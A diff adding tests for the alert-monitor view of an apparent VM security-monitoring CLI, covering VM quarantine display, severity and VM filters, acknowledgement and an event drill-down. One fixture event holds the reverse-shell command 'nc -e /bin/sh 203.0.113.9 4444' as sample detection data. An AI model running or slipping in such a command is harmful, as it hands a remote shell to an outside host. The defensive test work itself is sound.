@@ -3,6 +3,8 @@
 import { cleanup, render } from "ink-testing-library";
 import { afterEach, describe, expect, it, vi } from "vitest";
 import type { Alert, Severity } from "../../src/events/alert.js";
+import type { HvEvent } from "../../src/events/event.js";
+import { makeEvent } from "../helpers/events.js";
 import { MonitorState } from "../../src/cli/monitor-state.js";
 import { MonitorView } from "../../src/cli/monitor-view.js";
 
@@ -38,6 +40,11 @@ async function frameWith(app: ReturnType<typeof render>, ...wanted: string[]): P
     if (Date.now() > deadline) throw new Error(`frame never showed ${JSON.stringify(wanted)}; last frame:\n${f}`);
     await new Promise((r) => setTimeout(r, 20));
   }
+}
+
+/** Whether the alert feed (not the rules panel) has a row for this title. */
+function inFeed(frame: string, title: string): boolean {
+  return frame.split("\n").some((l) => new RegExp(`(CRIT|HIGH|MED|LOW|INFO)\\s+${title}`).test(l));
 }
 
 function linesOf(frame: string): string[] {
@@ -158,6 +165,103 @@ describe("monitor view", () => {
     expect(f).toContain("vm=vm-storm");
     // 4 fps, plus the once-a-second clock and a little slack
     expect(app.frames.length - before).toBeLessThanOrEqual(Math.ceil(seconds * 5) + 4);
+  });
+
+  it("lists every VM with its state and quarantine, not only the VMs alerts named", async () => {
+    const state = new MonitorState();
+    state.setVms([
+      { name: "web-1", state: "running", quarantined: true },
+      { name: "db-1", state: "shut off", quarantined: false },
+    ]);
+    state.addAlert(alert("Reverse shell spawned", "critical", "web-1"), true);
+    state.addAlert(alert("Old alert", "low", "gone-vm"), true);
+    const app = render(<MonitorView state={state} onQuit={() => undefined} />);
+    const f = await frameWith(app, "QUAR", "db-1");
+    expect(f).toMatch(/web-1\s+1 critical QUAR running/);
+    expect(f).toMatch(/db-1\s+0 ok shut off/);
+    expect(f).toMatch(/gone-vm\s+1 low/);
+    // The VM is released and stopped; db-1 is undefined (no alerts: its row goes).
+    state.setVms([{ name: "web-1", state: "shut off", quarantined: false }]);
+    const g = await frameWith(app, "web-1      1 critical shut off");
+    expect(g).not.toContain("QUAR");
+    expect(g).not.toContain("db-1");
+  });
+
+  it("acknowledges the selected alert (a), filters by severity (s) and VM (v), clears (c), opens its events (e)", async () => {
+    const state = new MonitorState();
+    const hi = alert("High on web", "high", "web-1");
+    const lo = alert("Low on db", "low", "db-1");
+    const host = alert("Medium on host", "medium", undefined);
+    for (const a of [hi, lo, host]) state.addAlert(a, true);
+    const acked: number[] = [];
+    const ev = (id: string, cmd: string): HvEvent => ({ ...makeEvent(1), "@timestamp": "2026-05-01T10:00:00.000Z", event: { ...makeEvent(1).event, id, action: "execve" }, process: { pid: 1, command_line: cmd } });
+    const actions = {
+      ack: (a: Alert): string => {
+        acked.push(a.id!);
+        state.setAlertStatus(a.id!, "acked");
+        return `alert #${a.id} acknowledged`;
+      },
+      events: (a: Alert): HvEvent[] => (a.id === hi.id ? [ev(hi.event_ids[0]!, "nc -e /bin/sh 203.0.113.9 4444")] : []),
+    };
+    const app = render(<MonitorView state={state} onQuit={() => undefined} actions={actions} />);
+    await frameWith(app, "Medium on host", "High on web", "Low on db");
+
+    // s: low+ (all three), then medium+ (the low one goes), then high+.
+    app.stdin.write("s");
+    await frameWith(app, "filter: low+");
+    app.stdin.write("s");
+    let f = await frameWith(app, "filter: medium+");
+    expect(inFeed(f, "High on web")).toBe(true);
+    expect(inFeed(f, "Low on db")).toBe(false);
+    app.stdin.write("s");
+    f = await frameWith(app, "filter: high+");
+    expect(inFeed(f, "Medium on host")).toBe(false);
+    expect(f).toMatch(/Alerts 1 of 3/);
+    app.stdin.write("c");
+    f = await frameWith(app, "Alerts 3 ·");
+    expect(f).not.toContain("filter:");
+
+    // v: each VM in turn (db-1, web-1), then the alerts about no VM.
+    app.stdin.write("v");
+    f = await frameWith(app, "filter: vm=db-1");
+    expect(inFeed(f, "High on web")).toBe(false);
+    app.stdin.write("v");
+    f = await frameWith(app, "filter: vm=web-1");
+    expect(f.split("\n").find((l) => l.includes("> "))).toContain("High on web");
+
+    // a acknowledges the selected (only shown) alert.
+    app.stdin.write("a");
+    f = await frameWith(app, `alert #${hi.id} acknowledged`, "(acked)");
+    expect(acked).toEqual([hi.id]);
+    app.stdin.write("a");
+    await frameWith(app, "already acknowledged");
+    expect(acked).toEqual([hi.id]);
+
+    // e: its stored events; esc back to the alert, esc to the feed.
+    app.stdin.write("e");
+    f = await frameWith(app, "Events of #", "nc -e /bin/sh 203.0.113.9 4444");
+    expect(f).toContain("1 past retention");
+    app.stdin.write("\u001B");
+    await frameWith(app, "event ids");
+    app.stdin.write("\u001B");
+    await frameWith(app, "filter: vm=web-1");
+    app.stdin.write("v");
+    f = await frameWith(app, "filter: no VM");
+    expect(inFeed(f, "Medium on host")).toBe(true);
+    app.stdin.write("v");
+    f = await frameWith(app, "Alerts 3 ·");
+    expect(f).not.toContain("filter:");
+  });
+
+  it("without actions, a and e say what they need instead of failing", async () => {
+    const state = new MonitorState();
+    state.addAlert(alert("Some alert", "high", "web-1"), true);
+    const app = render(<MonitorView state={state} onQuit={() => undefined} />);
+    await frameWith(app, "Some alert");
+    app.stdin.write("a");
+    await frameWith(app, "acknowledging needs the store");
+    app.stdin.write("e");
+    await frameWith(app, "events need the store");
   });
 
   it("shows the latest note from the pipeline", async () => {
